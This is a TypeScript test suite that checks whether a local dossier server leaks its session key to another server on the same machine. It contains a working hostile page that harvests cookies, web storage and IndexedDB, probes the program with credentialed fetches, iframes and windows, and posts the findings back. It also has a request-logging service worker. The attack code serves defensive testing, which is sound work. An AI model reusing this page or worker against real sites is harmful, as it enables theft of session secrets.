import { type ChildProcess, spawn } from "node:child_process";
import { once } from "node:events";
import { type IncomingHttpHeaders, type Server, createServer, request } from "node:http";
import { fileURLToPath } from "node:url";
import { type Browser, type BrowserContext, type Page, chromium } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { chromiumPath } from "../../src/publish/chart-png.ts";
import { onHand } from "../needs.ts";
import { hostileDossier, passphrase } from "./hostile.ts";

/**
 * Another server on this machine, visited in the browser that has a dossier open. Whatever it is sent, and whatever its
 * pages can find out, it keeps and tries on the program.
 */
const executablePath = onHand(chromiumPath(), "another server in a browser", "Chromium");
const main = fileURLToPath(new URL("../../src/cli/main.ts", import.meta.url));

/** Words that stand in the dossier's pages and nowhere else. */
const words = ["quote <script", "p-one", "other words", "remark"];

describe.skipIf(executablePath === undefined)("another server on this machine", () => {
  let made: Awaited<ReturnType<typeof hostileDossier>>;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  let ours: Run;
  const ends: (() => unknown)[] = [];

  beforeAll(async () => {
    made = await hostileDossier({ strong: true });
    browser = await chromium.launch({
      executablePath: executablePath!,
      args: ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
    });
    context = await browser.newContext();
    page = await context.newPage();
    ours = await begin(made.dir, 0);
    await page.goto(ours.url);
    await openRecord(page);
  });
  afterAll(async () => {
    await browser?.close();
    for (const end of ends) await end();
    await ours?.end();
    await made?.remove();
  });

  test("on another port, under every name of this machine, it receives and finds nothing that opens a dossier", async () => {
    const thief = await thieve(0);
    ends.push(thief.close);
    const { hostname, origin } = new URL(ours.url);
    const installation = hostname.slice(hostname.indexOf(".") + 1);
    const here = new URL(page.url());
    for (const name of ["127.0.0.1", "[::1]", "localhost", "any.localhost", installation, hostname]) {
      thief.targets = [origin, `http://127.0.0.1:${ours.port}`].flatMap((each) => [
        `${each}/`,
        `${each}${here.pathname}`,
        `${each}/api`,
        `${each}/key`,
      ]);
      const visited = await context.newPage();
      await visited.goto(`http://${name}:${thief.port}/`);
      await visited.waitForFunction("window.done === true");
      await visited.close();
    }
    expect(thief.received.length).toBeGreaterThan(12);
    expect(thief.found.length).toBeGreaterThan(100);
    await robbed(thief, ours, page);
    await page.reload();
    await expectRecord(page);
  });

  test("on our port before and after us, with its own worker and storage left there, it opens no later run", async () => {
    const key = await keyOf(page);
    const { port } = ours;
    await ours.end();
    const thief = await thieve(port);
    // The page that was left open asks again, and is answered by the other server.
    await page.reload();
    await page.waitForFunction("window.done === true");
    expect(thief.found.join("\n")).toContain(key);
    await page.waitForFunction("navigator.serviceWorker.controller !== null");
    await thief.close();

    const before = ours.url;
    ours = await begin(made.dir, port);
    expect(new URL(ours.url).origin).not.toBe(new URL(before).origin);
    await page.goto(ours.url);
    await openRecord(page);
    await robbed(thief, ours, page);
  });

  test.skipIf(process.getuid?.() !== 0)("a process of another user is not answered", async () => {
    const script = `
      const socket = require("node:net").connect(${ours.port}, process.argv[1]);
      let text = "";
      socket.on("data", (part) => (text += part)).on("error", () => {});
      socket.on("close", () => process.stdout.write(String(text.length)));
      socket.write("GET / HTTP/1.1\\r\\nHost: ${new URL(ours.url).host}\\r\\nAccept: text/html\\r\\nConnection: close\\r\\n\\r\\n");`;
    const lengthSeen = async (address: string, uid: number): Promise<number> => {
      const child = spawn(process.execPath, ["-e", script, address], { uid, cwd: "/", stdio: "pipe" });
      let said = "";
      child.stdout.on("data", (part: Buffer) => (said += String(part)));
      await once(child, "close");
      return Number(said === "" ? "NaN" : said);
    };
    for (const address of ["127.0.0.1", "::1", "::ffff:127.0.0.1"]) {
      expect(await lengthSeen(address, 0), address).toBeGreaterThan(100);
      expect(await lengthSeen(address, 65_534), address).toBe(0);
    }
  });
});

// Our server

type Run = { readonly url: string; readonly port: number; readonly end: () => Promise<void> };

async function begin(dir: string, port: number): Promise<Run> {
  const child: ChildProcess = spawn(process.execPath, [main, "serve", dir, "--port", String(port)], {
    env: { ...process.env, HABEAS_PASSPHRASE: passphrase },
    stdio: ["ignore", "pipe", "ignore"],
  });
  const [line] = (await once(child.stdout!, "data")) as [Buffer];
  const url = String(line).trim();
  return {
    url,
    port: Number(new URL(url).port),
    end: async () => {
      if (child.exitCode !== null) return;
      child.kill("SIGTERM");
      await once(child, "exit");
    },
  };
}

/** Walks by links from the overview to a record, as a person does. */
async function openRecord(page: Page): Promise<void> {
  await page.locator("a.count").first().click();
  await page.locator("main dl.facts a.ref").last().click();
  await expectRecord(page);
}

async function expectRecord(page: Page): Promise<void> {
  await page.getByRole("heading", { name: "History" }).waitFor();
}

function keyOf(page: Page): Promise<string> {
  return page.evaluate<string>(`sessionStorage.getItem("habeas-key")`);
}

// The other server

type Thief = {
  readonly port: number;
  /** Addresses of the program that its pages ask for. */
  targets: readonly string[];
  readonly received: { readonly headers: IncomingHttpHeaders; readonly text: string }[];
  /** What its pages found out, in words. */
  readonly found: string[];
  readonly close: () => Promise<void>;
};

async function thieve(port: number): Promise<Thief> {
  const servers: Server[] = [];
  const thief: Thief = {
    port,
    targets: [],
    received: [],
    found: [],
    close: async () => {
      for (const server of servers) {
        server.closeAllConnections();
        await new Promise((done) => server.close(done));
      }
    },
  };
  const listen = (address: string, at: number): Promise<number> =>
    new Promise((done, fail) => {
      const server = createServer(async (asked, answer) => {
        let body = "";
        for await (const part of asked) body += String(part);
        thief.received.push({ headers: asked.headers, text: `${asked.method} ${asked.url}\n${body}` });
        if (asked.url === "/found") {
          thief.found.push(...(JSON.parse(body) as string[]));
          answer.end();
          return;
        }
        const type = asked.url === "/worker.js" ? "text/javascript" : "text/html";
        answer.writeHead(200, { "Content-Type": type, "Set-Cookie": "left=behind; Path=/" });
        answer.end(asked.url === "/worker.js" ? worker : robberPage(thief.targets));
      });
      servers.push(server);
      server.once("error", fail).listen(at, address, () => done((server.address() as { port: number }).port));
    });
  const taken = await listen("127.0.0.1", port);
  await listen("::1", taken).catch(() => servers.pop());
  return Object.assign(thief, { port: taken });
}

/** A worker that answers for whatever asks at its origin, and tells what it was asked. */
const worker = `
  addEventListener("install", () => skipWaiting());
  addEventListener("activate", (event) => event.waitUntil(clients.claim()));
  addEventListener("fetch", (event) => {
    if (event.request.url.endsWith("/found")) return;
    const told = JSON.stringify(["worker: " + event.request.url + JSON.stringify([...event.request.headers])]);
    event.respondWith(fetch("/found", { method: "POST", body: told }).catch(() => {}).then(() => fetch(event.request)));
  });`;

function robberPage(targets: readonly string[]): string {
  return `<!doctype html><title>Other</title><body><script type="module">
    const found = [];
    const tell = (what, value) => found.push(what + ": " + value);
    const within = (promise) => Promise.race([promise, new Promise((done) => setTimeout(done, 1500, "nothing"))]);
    tell("cookie", document.cookie);
    tell("referrer", document.referrer);
    tell("name", window.name);
    for (const store of [sessionStorage, localStorage])
      for (const name of Object.keys(store)) tell("stored " + name, store.getItem(name));
    tell("databases", JSON.stringify(await indexedDB.databases()));
    const channel = new BroadcastChannel("habeas-key");
    channel.onmessage = ({ data }) => tell("tab", JSON.stringify(data));
    channel.postMessage("asked");
    addEventListener("message", ({ data }) => tell("message", JSON.stringify(data)));
    const targets = ${JSON.stringify(targets)};
    for (const target of targets) {
      for (const mode of ["cors", "no-cors"])
        for (const headers of [{}, { "Habeas-Key": "x" }])
          await within(fetch(target, { mode, headers: mode === "cors" ? headers : {}, credentials: "include" }).then(
            async (answer) => tell(mode + " " + target, answer.type + answer.status + (await answer.text())),
            (error) => tell(mode + " " + target, String(error)),
          ));
      await within(fetch(target, { method: "POST", mode: "no-cors", credentials: "include", body: "a=b" }).then(
        async (answer) => tell("post " + target, answer.type + (await answer.text())),
        (error) => tell("post " + target, String(error)),
      ));
      await within(new Promise((done) => {
        const frame = Object.assign(document.createElement("iframe"), { src: target });
        frame.onload = () => {
          try { tell("frame " + target, frame.contentDocument.body.textContent); } catch (error) { tell("frame " + target, String(error)); }
          done();
        };
        document.body.append(frame);
      }));
      for (const tag of ["script", "img", "object"])
        await within(new Promise((done) => {
          const part = document.createElement(tag);
          part.onload = () => done(tell(tag + " " + target, "loaded " + (part.naturalWidth ?? "") + Object.keys(window).length));
          part.onerror = () => done(tell(tag + " " + target, "refused"));
          part[tag === "object" ? "data" : "src"] = target;
          document.body.append(part);
        }));
      const opened = window.open(target);
      await new Promise((done) => setTimeout(done, 150));
      try { tell("window " + target, opened?.closed + " " + opened?.document?.body?.textContent); } catch (error) { tell("window " + target, String(error)); }
      opened?.close();
    }
    for (const { name, responseStatus, decodedBodySize } of performance.getEntriesByType("resource"))
      tell("resource", [name, responseStatus, decodedBodySize].join(" "));
    try {
      await navigator.serviceWorker.register("/worker.js");
      await within(navigator.serviceWorker.ready);
      tell("worker", "registered");
    } catch (error) { tell("worker", String(error)); }
    await new Promise((done) => setTimeout(done, 300));
    await fetch("/found", { method: "POST", body: JSON.stringify(found) });
    window.done = true;
  </script>`;
}

/** Holds what the other server has against what opens the run, and tries all of it on the program. */
async function robbed(thief: Thief, run: Run, page: Page): Promise<void> {
  const key = await keyOf(page);
  expect(key).toMatch(/^[\w-]{43}$/);
  const { host, hash } = new URL(run.url);
  const all = JSON.stringify([thief.received, thief.found]);
  for (const secret of [key, hash.slice("#token=".length), ...words])
    expect([secret, all.includes(secret)]).toEqual([secret, false]);
  const values = new Set(all.match(/[\w-]{16,}/g));
  const paths = ["/", new URL(page.url()).pathname, "/api", "/key"];
  const sent = [
    ...thief.received.map(({ headers }) => headers),
    ...[...values].map((value) => ({
      "habeas-key": value,
      "habeas-token": value,
      cookie: `habeas-key=${value}; left=behind`,
    })),
  ];
  for (const headers of sent)
    for (const path of paths)
      for (const name of [host, `127.0.0.1:${run.port}`]) {
        const text = await answerTo(run.port, path, { ...headers, host: name });
        for (const word of [...words, key])
          expect([path, headers, word, text.includes(word)]).toContain(false);
      }
  // With the key the same request gives the words, so that the trial could have found them.
  const dossier = new URL(page.url()).pathname.split("/")[2]!;
  const shown = await answerTo(
    run.port,
    `/api/${dossier}/finding.show`,
    { host, "habeas-key": key, "content-type": "application/json" },
    '{"ref":"fnd"}',
  );
  for (const word of words) expect([word, shown.includes(word)]).toEqual([word, true]);
}

function answerTo(port: number, path: string, headers: IncomingHttpHeaders, body?: string): Promise<string> {
  const { connection: _, "content-length": __, ...rest } = headers;
  return new Promise((done, fail) => {
    const method = body === undefined ? "GET" : "POST";
    request({ host: "127.0.0.1", port, path, method, headers: rest, agent: false }, (answer) => {
      let text = "";
      answer.setEncoding("utf8").on("data", (part: string) => (text += part));
      answer.on("end", () => done(text));
    })
      .on("error", fail)
      .end(body);
  });
}
